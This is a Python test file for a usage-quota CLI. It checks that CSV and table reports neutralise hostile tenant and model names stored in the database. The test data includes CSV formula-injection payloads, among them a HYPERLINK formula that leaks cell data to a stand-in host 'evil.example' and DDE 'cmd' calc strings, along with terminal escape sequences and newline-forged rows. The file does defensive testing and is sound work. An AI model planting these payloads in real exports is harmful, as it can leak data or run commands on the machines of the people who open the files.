"""The CLI's output of rows holding hostile names, written to the ledger and the
price list directly as the table owner (rows stored before names were checked):
CSV cells that a spreadsheet would run are neutralised and no CR or LF splits a
row; the table shows control characters escaped, one line per row. And the
CLI's own name arguments follow the patterns of llmquota.domain.names.

The CLI runs as a real subprocess, its output read as bytes: a text-mode pipe
would turn a bare CR into a newline before the test could see it.
"""

from __future__ import annotations

import asyncio
import csv
import io
import os
import subprocess
import sys
from datetime import UTC, datetime

import asyncpg

from tests.support import CLI_TIMEOUT_SECONDS, REPORTING_ROLE, dsn_as, run_cli

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_MODELS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\tgpt-4o",
    "\rgpt-4o",
    "gpt\r4o",
    "gpt-4o\nforged,row,1,2",
    "\x1b[2Jgpt-4o\x1b]0;owned\x07",
]
# A tenant and a route may be as hostile (usage_ledger has no name checks).
HOSTILE_TENANT = "=cmd|' /C calc'!A0"
HOSTILE_ROUTE = "chat\nforged"
MARCH = ("--from", "2025-03-01", "--to", "2025-04-01")


def cli_bytes(*args: str, dsn: str, reporting: bool = False) -> bytes:
    """`llmquota ARGS`'s stdout as bytes (run_cli's environment, without text mode)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("LLMQUOTA_")}
    env["LLMQUOTA_DATABASE_URL"] = dsn
    if reporting:
        env["LLMQUOTA_REPORTING_DATABASE_URL"] = dsn_as(dsn, REPORTING_ROLE)
    result = subprocess.run(
        [sys.executable, "-W", "error", "-m", "llmquota.cli", *args],
        capture_output=True,
        env=env,
        timeout=CLI_TIMEOUT_SECONDS,
        check=False,
    )
    assert result.returncode == 0, result.stderr.decode()
    return result.stdout


async def load_hostile_rows(db: asyncpg.Connection) -> None:
    assert await db.fetchval("SELECT lq_create_ledger_partition('2025-03-01')") == "created"
    rows = [("acme", "chat", model) for model in HOSTILE_MODELS]
    rows.append((HOSTILE_TENANT, HOSTILE_ROUTE, "gpt-4o"))
    await db.executemany(
        "INSERT INTO usage_ledger (reservation_id, entry_kind, tenant, route, model,"
        " input_tokens, output_tokens, reserved_tokens, outcome, policy_version, recorded_at)"
        " VALUES (gen_random_uuid(), 'usage', $1, $2, $3, 10, 5, 20, 'ok', 1, $4)",
        [(*row, datetime(2025, 3, 10, 12, tzinfo=UTC)) for row in rows],
    )
    await db.executemany(
        "INSERT INTO model_prices (model, effective_from, input_usd_per_million,"
        " output_usd_per_million) VALUES ($1, '2025-01-01', 1, 2)",
        [(model,) for model in HOSTILE_MODELS],
    )


def neutralised(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_LEADS) else text


def check_csv(out: bytes, columns: int, expected_rows: int) -> list[list[str]]:
    """The CSV as rows: each hostile text back whole, one record per row, and no
    physical line that a spreadsheet would start as a formula."""
    text = out.decode()
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert len(parsed) == 1 + expected_rows
    assert all(len(row) == columns for row in parsed)
    for line in text.replace("\r", "\n").split("\n"):
        assert not line.startswith(("=", "+", "-", "@", "\t")), repr(line)
    return parsed


def check_table(out: bytes, expected_rows: int) -> str:
    """The table: no control character but the line ends, one line per row."""
    text = out.decode()
    assert not any(ord(c) < 0x20 and c != "\n" for c in text), repr(text)
    assert "\x7f" not in text
    lines = text.splitlines()
    assert len(lines) == 2 + expected_rows + 1  # header, dashes, rows, "(n rows)"
    assert lines[-1] == f"({expected_rows} rows)"
    return text


async def test_report_csv_and_table_neutralise_hostile_ledger_names(
    database_dsn: str, db: asyncpg.Connection
) -> None:
    await load_hostile_rows(db)
    count = len(HOSTILE_MODELS) + 1

    out = await asyncio.to_thread(
        cli_bytes, "report", "usage_daily", *MARCH, "--format", "csv", dsn=database_dsn,
        reporting=True,
    )  # fmt: skip
    parsed = check_csv(out, 10, count)
    header = parsed[0]
    cells = {(r[header.index("tenant")], r[header.index("model")]): r for r in parsed[1:]}
    for model in HOSTILE_MODELS:
        row = cells[("acme", neutralised(model))]
        assert row[header.index("route")] == "chat"
        assert row[header.index("requests")] == "1"  # numbers stay numbers
    forged = cells[(neutralised(HOSTILE_TENANT), "gpt-4o")]
    assert forged[header.index("route")] == HOSTILE_ROUTE  # the LF inside its quoted cell
    assert b'"\'\rgpt-4o"' in out and b'"gpt\r4o"' in out  # a bare CR only ever quoted

    table = check_table(
        await asyncio.to_thread(cli_bytes, "report", "usage_daily", *MARCH, dsn=database_dsn,
                                reporting=True),
        count,
    )  # fmt: skip
    assert "\\x1b[2Jgpt-4o\\x1b]0;owned\\x07" in table
    assert "gpt-4o\\nforged,row,1,2" in table
    assert "\\rgpt-4o" in table and "gpt\\r4o" in table and "\\tgpt-4o" in table
    assert "chat\\nforged" in table


async def test_prices_list_neutralises_hostile_model_names(
    database_dsn: str, db: asyncpg.Connection
) -> None:
    await load_hostile_rows(db)
    count = len(HOSTILE_MODELS)
    out = await asyncio.to_thread(cli_bytes, "prices", "list", "--format", "csv", dsn=database_dsn)
    parsed = check_csv(out, 7, count)  # model, from, input, output, set at, set by, reason
    assert sorted(row[0] for row in parsed[1:]) == sorted(map(neutralised, HOSTILE_MODELS))
    assert {row[2] for row in parsed[1:]} == {"1.000000"}
    table = check_table(
        await asyncio.to_thread(cli_bytes, "prices", "list", dsn=database_dsn), count
    )
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"click")' in table  # text, not a cell


async def test_cli_name_arguments_follow_the_patterns(
    database_dsn: str, db: asyncpg.Connection
) -> None:
    await db.execute("INSERT INTO tenants (tenant) VALUES ('acme')")
    cases = {
        ("estimates", "--model", "gpt 4o"): "--model must be ASCII letters",
        ("estimates", "--model", "gpt-4o\x1b[2J"): "--model must be ASCII letters",
        ("estimates", "--tenant", ".."): "--tenant must be ASCII letters",
        ("prices", "set", "--model", "=SUM(1)", "--input-per-million", "1",
         "--output-per-million", "2", "--set-by", "ops"): "model must be ASCII letters",
        ("prices", "list", "--model", "gpt\r4o"): "model must be ASCII letters",
        ("ledger", "adjust", "--tenant", "acme", "--tokens", "5", "--reason", "fix",
         "--model", "gpt 4o"): "model must be ASCII letters",
    }  # fmt: skip
    for args, message in cases.items():
        result = await asyncio.to_thread(run_cli, *args, dsn=database_dsn, check=False)
        assert result.returncode == 2, (args, result.stdout, result.stderr)
        assert message in result.stderr, (args, result.stderr)
        assert result.stdout == ""
    assert await db.fetchval("SELECT count(*) FROM model_prices") == 0
    assert await db.fetchval("SELECT count(*) FROM usage_ledger") == 0
    fine = await asyncio.to_thread(
        run_cli, "estimates", "--model", "ft:gpt-4o:org/x@1", "--tenant", "acme", dsn=database_dsn
    )
    assert fine.stdout.splitlines()[-1] == "(0 rows)"
